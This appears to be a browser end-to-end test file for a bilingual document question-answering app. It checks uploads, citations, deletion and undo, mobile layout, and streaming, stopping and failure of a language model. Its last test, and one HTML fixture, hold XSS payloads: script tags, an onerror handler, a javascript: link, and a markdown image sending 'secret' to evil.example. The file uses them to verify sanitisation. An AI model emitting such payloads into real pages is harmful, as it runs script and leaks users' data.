/**
 * The whole way in a real browser, in Chinese and in English: drop a file, watch it become ready, ask, click the
 * citation, see the cited words marked. No request leaves the origin, no console error, no serious accessibility fault.
 */
import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { findBrowser, launchBrowser } from './support/browser.ts'
import {
  LANGUAGES,
  type Language,
  type OpenOptions,
  ask,
  byId,
  coversQuote,
  drop,
  finishedAnswer,
  openApp,
  serious,
  squeezed,
} from './support/app-page.ts'
import { makeDocx, makePdf } from './support/fixtures.ts'
import { type ModelServer, startModelServer } from './support/model-server.ts'
import { type TestServer, startTestServer } from './support/server.ts'

const executable = findBrowser()
if (!executable) console.log('skipped: browser tests, because no Chrome, Chromium or Edge is installed')

const TYPES: Record<string, string> = {
  pdf: 'application/pdf',
  docx: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
  md: 'text/markdown',
  html: 'text/html',
  txt: 'text/plain',
}
const SENTENCES = {
  pdf: { zh: '本合同的通知期限为四十五天，须以书面形式提出。', en: 'The notice period of this contract is forty-five days in writing.' },
  docx: { zh: '设备的保修期为三十个月，自验收之日起计算。', en: 'The warranty of the device lasts thirty months from acceptance.' },
  md: {
    zh: '间隙锁锁住索引记录之间的空隙，因此能防止幻读。',
    en: 'A gap lock locks the space between index records, which prevents phantom reads.',
  },
  html: { zh: '缓存雪崩是指大量缓存在同一时刻过期。', en: 'A cache avalanche means that many entries expire at the same moment.' },
  txt: { zh: '客户编号由两个字母和六位数字组成。', en: 'A customer number consists of two letters and six digits.' },
} as const
const QUESTIONS = {
  pdf: { zh: '合同的通知期限是多少天？', en: 'How long is the notice period of the contract?' },
  docx: { zh: '设备的保修期有多长？', en: 'How long does the warranty of the device last?' },
  md: { zh: '间隙锁如何防止幻读？', en: 'How does a gap lock prevent phantom reads?' },
  html: { zh: '什么是缓存雪崩？', en: 'What is a cache avalanche?' },
  txt: { zh: '客户编号由什么组成？', en: 'What does a customer number consist of?' },
} as const
type Kind = keyof typeof SENTENCES

const FILLER = { zh: '这一段只是正文，与所问的内容无关。', en: 'This paragraph is only here to fill the page.' }

function fileOf(kind: Kind, language: Language): { name: string; mimeType: string; buffer: Buffer } {
  const sentence = SENTENCES[kind][language]
  const filler = FILLER[language]
  const make: Record<Kind, () => Uint8Array | string> = {
    pdf: () =>
      makePdf([
        [
          { text: filler, x: 72, y: 100 },
          { text: `1. ${filler}`.replace('1. ', language === 'zh' ? '一、' : '1. '), x: 72, y: 130 },
        ],
        [
          { text: filler, x: 72, y: 100 },
          { text: sentence, x: 72, y: 400 },
          { text: filler, x: 72, y: 500 },
        ],
      ]),
    docx: () => makeDocx([`# ${language === 'zh' ? '保修' : 'Warranty'}`, filler, sentence, filler]),
    md: () => `# ${language === 'zh' ? '锁' : 'Locks'}\n\n${filler}\n\n- **${sentence}**\n- ${filler}\n`,
    html: () =>
      `<!doctype html><html lang="${language}"><title>Cache</title><body><nav>menu menu</nav><article><h1>Cache</h1><p>${filler.repeat(8)}</p><p>${sentence}</p><p>${filler.repeat(8)}</p></article><script>document.title='hacked'</script></body></html>`,
    txt: () => `${filler}\n\n${sentence}\n\n${filler}\n`,
  }
  return { name: `${language === 'zh' ? '资料' : 'paper'}-${kind}.${kind}`, mimeType: TYPES[kind]!, buffer: Buffer.from(make[kind]()) }
}

describe.skipIf(!executable)('in the browser', () => {
  let browser: Browser
  beforeAll(async () => {
    browser = await launchBrowser(executable!)
  })
  afterAll(() => browser?.close())

  const open = (server: TestServer, language: Language, size?: { width: number; height: number }, more?: OpenOptions) =>
    openApp(browser, server.url, language, size, more)

  describe.each(LANGUAGES)('%s', (language) => {
    let server: TestServer
    beforeAll(async () => {
      server = await startTestServer()
    })
    afterAll(() => server?.end())

    it('files are dropped, become ready, and every citation opens its source at the place', async () => {
      const { context, page, seen } = await open(server, language)
      await page.goto(`${server.url}/library`)
      const kinds = Object.keys(SENTENCES) as Kind[]
      await drop(
        page,
        byId(page, 'drop-zone').first(),
        kinds.map((kind) => fileOf(kind, language)),
      )
      for (const kind of kinds)
        await page.locator('[data-testid=doc-row][data-state=ready]', { hasText: fileOf(kind, language).name }).waitFor()
      expect(await serious(page)).toEqual([])

      for (const kind of kinds) {
        await page.goto(`${server.url}/`)
        const answer = await ask(page, QUESTIONS[kind][language])
        await finishedAnswer(page)
        expect(squeezed(await answer.innerText())).toContain(squeezed(SENTENCES[kind][language]).slice(0, 12))
        await answer.getByTestId('cite-chip').first().click()
        await byId(page, 'source-panel').waitFor()
        if (kind === 'pdf') await coversQuote(page, SENTENCES.pdf[language])
        else {
          const mark = byId(page, 'cite-mark').first()
          await mark.waitFor()
          const marked = squeezed((await byId(page, 'cite-mark').allInnerTexts()).join(''))
          expect(marked).toContain(squeezed(SENTENCES[kind][language]).slice(0, 10))
          await expect
            .poll(() =>
              mark.evaluate((element) => {
                const box = element.getBoundingClientRect()
                return box.top >= 0 && box.bottom <= innerHeight
              }),
            )
            .toBe(true)
        }
      }
      expect(await serious(page)).toEqual([])
      await byId(page, 'source-close').click()
      await byId(page, 'source-panel').waitFor({ state: 'hidden' })
      expect(seen).toEqual({ offOrigin: [], errors: [] })
      await context.close()
    })

    it('what is not in the documents is said plainly, with the nearest passages', async () => {
      const { context, page, seen } = await open(server, language)
      await page.goto(server.url)
      await ask(page, language === 'zh' ? '木星有多少颗卫星？' : 'Who was the first person on the moon?')
      await finishedAnswer(page)
      await byId(page, 'unanswered').waitFor()
      expect(await byId(page, 'cite-chip').count()).toBe(0)
      expect(seen).toEqual({ offOrigin: [], errors: [] })
      await context.close()
    })

    it('a document is deleted, taken back, and deleted for good', async () => {
      const { context, page } = await open(server, language)
      await server.read('scratch.txt', 'A scratch file about lemurs.')
      await page.goto(`${server.url}/library`)
      const row = page.locator('[data-testid=doc-row]', { hasText: 'scratch.txt' })
      await row.waitFor()
      await row.hover()
      await row.getByTestId('doc-delete').click()
      await row.waitFor({ state: 'detached' })
      // The row goes at once; the offer to take it back comes with the server's answer.
      await byId(page, 'undo').waitFor()
      expect((await server.client.search({ q: 'lemurs' })).results).toEqual([])
      await byId(page, 'undo').click()
      await row.waitFor()
      await expect.poll(async () => (await server.client.search({ q: 'lemurs' })).results.length).toBe(1)
      await context.close()
    })

    it('works at 390 px, in the dark, by touch', async () => {
      const { context, page, seen } = await open(server, language, { width: 390, height: 844 }, { colorScheme: 'dark', hasTouch: true })
      await page.goto(`${server.url}/library`)
      await page.locator('[data-testid=doc-row]').first().waitFor()
      const overflow = (): Promise<number> => page.evaluate(() => document.documentElement.scrollWidth - innerWidth)
      expect(await overflow()).toBeLessThanOrEqual(0)
      expect(await serious(page)).toEqual([])
      await page.goto(server.url)
      expect(await serious(page)).toEqual([])
      await ask(page, QUESTIONS.pdf[language])
      await finishedAnswer(page)
      await byId(page, 'answer').last().getByTestId('cite-chip').first().click()
      await byId(page, 'source-panel').waitFor()
      await byId(page, 'cite-box').first().waitFor()
      expect(await overflow()).toBeLessThanOrEqual(0)
      expect(await serious(page)).toEqual([])
      expect(seen).toEqual({ offOrigin: [], errors: [] })
      await context.close()
    })
  })

  describe('with a language model', () => {
    let server: TestServer
    let model: ModelServer
    beforeAll(async () => {
      model = await startModelServer()
      server = await startTestServer({ env: { ZHIKU_CHAT_URL: model.url } })
      await server.read('locks.md', `# Locks\n\n${SENTENCES.md.en}\n\nA record lock locks one index record.`)
    })
    afterAll(async () => {
      await server?.end()
      await model?.close()
    })

    it('an answer goes on through a reload, with its citations', async () => {
      const gate = Promise.withResolvers<void>()
      model.script({
        text: ['A gap lock ', 'prevents phantom reads [1]. ', 'It locks ', 'the space between records [7][1].'],
        before: (piece) => (piece === 2 ? gate.promise : undefined),
      })
      const { context, page, seen } = await open(server, 'en')
      await page.goto(server.url)
      const answer = await ask(page, 'How does a gap lock prevent phantom reads?')
      await answer.getByText('prevents phantom reads').waitFor()
      await page.reload()
      await byId(page, 'answer').last().getByText('prevents phantom reads').waitFor()
      expect(await byId(page, 'answer').last().getAttribute('aria-busy')).toBe('true')
      gate.resolve()
      await finishedAnswer(page)
      const text = await byId(page, 'answer').last().innerText()
      expect(squeezed(text)).toContain('thespacebetweenrecords')
      expect(text.match(/prevents phantom reads/g)).toHaveLength(1)
      // [7] is no source of this answer: it is gone, not bent to another.
      expect(await byId(page, 'answer').last().locator('[data-testid=cite-chip][data-mark="7"]').count()).toBe(0)
      expect(await byId(page, 'answer').last().getByTestId('cite-chip').count()).toBe(2)
      expect(seen).toEqual({ offOrigin: [], errors: [] })
      await context.close()
    })

    it('stop ends the answer and the model’s work, and keeps what was said', async () => {
      model.script({ text: Array.from({ length: 400 }, (_, n) => `word${n} `), delayMs: 20 })
      const { context, page } = await open(server, 'en')
      await page.goto(server.url)
      const answer = await ask(page, 'How does a gap lock prevent phantom reads?')
      await answer.getByText('word5').waitFor()
      await byId(page, 'stop').click()
      await finishedAnswer(page)
      expect(await answer.innerText()).toContain('word5')
      expect((await model.until((request) => request.aborted)).sent).toBeLessThan(400)
      await context.close()
    })

    it('a model that is down is said to be down, and the passages are quoted', async () => {
      model.script({ fault: { kind: 'status', status: 500, message: 'out of memory' } })
      const { context, page } = await open(server, 'en')
      await page.goto(server.url)
      const answer = await ask(page, 'How does a gap lock prevent phantom reads?')
      await finishedAnswer(page)
      await byId(page, 'answer-notice').waitFor()
      expect(await answer.innerText()).toContain('prevents phantom reads')
      expect(await answer.getByTestId('cite-chip').count()).toBeGreaterThan(0)
      await context.close()
    })

    it('what a model writes is never code: no script, no image, no request', async () => {
      model.script({
        text: '<img src=x onerror="window.hacked=1"><script>window.hacked=1</script> ![x](https://evil.example/a.png?q=secret) [link](javascript:window.hacked=1) A gap lock [1].',
      })
      const { context, page, seen } = await open(server, 'en')
      await page.goto(server.url)
      await ask(page, 'How does a gap lock prevent phantom reads?')
      await finishedAnswer(page)
      expect(await page.evaluate(() => (window as { hacked?: number }).hacked)).toBeUndefined()
      expect(await byId(page, 'answer').last().locator('img, script').count()).toBe(0)
      expect(seen).toEqual({ offOrigin: [], errors: [] })
      await context.close()
    })
  })
})
